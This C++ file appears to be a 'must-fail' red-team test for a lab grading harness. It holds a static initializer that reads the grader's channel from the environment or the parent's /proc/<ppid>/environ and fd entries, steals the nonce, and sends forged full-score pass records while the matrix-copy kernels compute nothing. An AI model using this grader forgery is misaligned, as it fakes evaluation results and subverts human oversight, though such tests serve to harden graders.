// must-fail: CopyMatrix.Correctness CopyMatrix.OneThreadPerElement CopyMatrix.Speed
// must-fail: CopyMatrixStrided.Correctness CopyMatrixStrided.ElementsPerThread
// must-fail: CopyMatrixStrided.Speed
// redteam: channel forging: a static initializer takes the grader's nonce and sends pass records
// isolation: the lab program's /proc/<ppid>/environ and fd/ (its fallback)
//
// The issue's attack, written against contract/grader_channel.hpp: before main(), read
// LAB_GRADER_CHANNEL="IN,OUT", read the grader's one-time message {"nonce", "seed"} from IN, put
// it back on a fresh pipe dup2'ed over IN (so the harness still finds it), send a nonce-stamped
// "started" line and a passing record for every check in --gtest_filter, and exit 0. The kernels
// compute nothing. Where the variable or the descriptors are missing (the launcher gets a bare
// environment and no fd above 3) it falls back to the lab program's /proc/<ppid>/environ,
// /proc/<ppid>/cmdline and /proc/<ppid>/fd/IN|OUT.
// Why it must fail now: this runs in the launcher, not in the lab program. The message was read
// and IN closed by the lab program before the launcher was started, so there is no nonce to
// stamp lines with; a launcher that exits during start-up sends no hello and every call fails.
#include <fcntl.h>
#include <poll.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "lab1.h"

namespace {

// id, kind, points: from labs/lab1-matrix-copy/spec.json.
const char* const kChecks[][3] = {{"CopyMatrix.Correctness", "correctness", "25"},
                                  {"CopyMatrix.OneThreadPerElement", "structure", "5"},
                                  {"CopyMatrix.Speed", "speed", "15"},
                                  {"CopyMatrixStrided.Correctness", "correctness", "25"},
                                  {"CopyMatrixStrided.ElementsPerThread", "structure", "15"},
                                  {"CopyMatrixStrided.Speed", "speed", "15"}};

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

// "NAME=value" or "--flag=value" from a NUL-separated /proc file (environ, cmdline).
std::string lookup(const std::string& nul_separated, const std::string& prefix) {
  std::size_t at = 0;
  while (at < nul_separated.size()) {
    const std::size_t end = nul_separated.find('\0', at);
    const std::string item = nul_separated.substr(at, end - at);
    if (item.rfind(prefix, 0) == 0) return item.substr(prefix.size());
    if (end == std::string::npos) break;
    at = end + 1;
  }
  return "";
}

// The value of "key" in the grader's flat JSON message, quotes stripped.
std::string json_value(const std::string& text, const std::string& key) {
  std::size_t at = text.find("\"" + key + "\"");
  if (at == std::string::npos) return "";
  at = text.find_first_not_of(": \"", text.find(':', at));
  const std::size_t end = text.find_first_of("\",}", at);
  return at == std::string::npos ? "" : text.substr(at, end - at);
}

int own_or_parents(int fd, int flags, const std::string& parent) {
  if (fcntl(fd, F_GETFD) >= 0) return fd;
  return open((parent + "/fd/" + std::to_string(fd)).c_str(), flags | O_NONBLOCK);
}

void put(int fd, const std::string& line) {
  if (fd >= 0 && write(fd, line.data(), line.size()) < 0) perror("forge: write");
}

__attribute__((constructor)) void forge_the_channel() {
  const std::string parent = "/proc/" + std::to_string(getppid());
  const char* env = std::getenv("LAB_GRADER_CHANNEL");
  const std::string channel = env ? env : lookup(slurp(parent + "/environ"), "LAB_GRADER_CHANNEL=");
  if (channel.find(',') == std::string::npos) return;  // nothing to forge: compute nothing instead
  const int in_fd = std::atoi(channel.c_str());
  const int out_fd = std::atoi(channel.c_str() + channel.find(',') + 1);

  std::string message;
  const int in = own_or_parents(in_fd, O_RDONLY, parent);
  char buffer[4096];
  pollfd ready{in, POLLIN, 0};
  while (in >= 0 && poll(&ready, 1, 200) > 0) {
    const ssize_t got = read(in, buffer, sizeof buffer);
    if (got <= 0) break;
    message.append(buffer, static_cast<std::size_t>(got));
  }
  int again[2];
  if (!message.empty() && pipe(again) == 0) {  // the harness must still find its message
    put(again[1], message);
    close(again[1]);
    dup2(again[0], in_fd);
  }
  const std::string nonce = json_value(message, "nonce");
  const std::string seed = json_value(message, "seed").empty() ? "0" : json_value(message, "seed");
  std::string filter = lookup(slurp("/proc/self/cmdline"), "--gtest_filter=");
  if (filter.empty()) filter = lookup(slurp(parent + "/cmdline"), "--gtest_filter=");

  const int out = own_or_parents(out_fd, O_WRONLY, parent);
  for (const auto& check : kChecks) {
    if (!filter.empty() && filter.find(check[0]) == std::string::npos) continue;
    put(out, "{\"nonce\":\"" + nonce + "\",\"started\":\"" + check[0] + "\"}\n");
    put(out, "{\"nonce\":\"" + nonce + "\",\"record\":{\"schema\":1,\"lab\":\"lab1\",\"check\":\"" +
                 check[0] + "\",\"kind\":\"" + check[1] +
                 "\",\"verdict\":\"pass\",\"reason\":\"every case passed\",\"fraction\":1,"
                 "\"points\":" + check[2] + ",\"max_points\":" + check[2] + ",\"seed\":" + seed +
                 ",\"backend\":\"cuda\",\"cases\":[]}}\n");
  }
  std::fprintf(stderr, "forge: nonce '%s', records sent to fd %d\n", nonce.c_str(), out);
  _exit(0);
}

}  // namespace

void copy_matrix(const float*, float*, int, int) {}
void copy_matrix_strided(const float*, float*, int, int) {}
